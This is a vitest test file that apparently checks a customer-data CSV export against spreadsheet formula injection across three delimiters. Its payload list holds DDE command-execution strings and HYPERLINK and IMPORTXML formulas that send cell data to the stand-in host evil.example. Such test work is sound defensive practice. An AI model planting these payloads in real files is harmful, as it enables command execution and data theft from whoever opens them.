/** Cells that a spreadsheet would run leave its profile harmless, and come back as they were. */
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { customers } from '../../../src/datasets/customers.ts';
import { exported } from '../../support/export.ts';
import { useImports } from '../../support/import.ts';

const given = useImports();

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '+1+1',
  "-2+3+cmd|'x'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
  '+1-555-010-0000',
  '-1-1',
  '@handle',
  "'=1+1",
  "''=1+1",
  '=1+1\n=2+2',
  '=1+1,2',
  '=1;2',
  '+44|x',
];
/** Numbers and spaced phone numbers stay as they are: no spreadsheet takes them for a sum. */
const harmless = ['-12.5', '+44 20 7946 0018', '+1 (555) 010-0000', '-5.00', '+442079460018'];

describe.each(['comma', 'semicolon', 'tab'] as const)('delimited by %s', (delimiter) => {
  test('no cell begins as a formula, and all come back', async () => {
    const tenant = await given.tenant();
    const records = [...payloads, ...harmless].map((payload, i) => ({
      number: `CUST-${String(i).padStart(6, '0')}`,
      first_name: payload,
      driver_notes: payload,
      tags: JSON.stringify([payload.replaceAll(/[,;]/g, ' ')]),
      groups: JSON.stringify([payload.replaceAll(/[,;]/g, ' ')]),
    }));
    const lines = records.map((record) => `${JSON.stringify(record)}\n`).join('');
    const made = await given.import(tenant, lines, { fileName: 'x.ndjson', require: [] });
    expect(made.created).toBe(records.length);

    const { file } = await exported(given.database, tenant, {
      dataset: customers,
      columns: 'all',
      csv: { delimiter },
    });
    const separator = { comma: ',', semicolon: ';', tab: '\t' }[delimiter];
    const cells = (parse(file, { bom: true, delimiter: separator }) as string[][]).flat();
    const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(new Set(dangerous)).toEqual(new Set(harmless));

    const again = await given.import(tenant, file, { require: [] });
    expect({ unchanged: again.unchanged, read: again.rowsRead }).toEqual({
      unchanged: records.length,
      read: records.length,
    });
  });
});
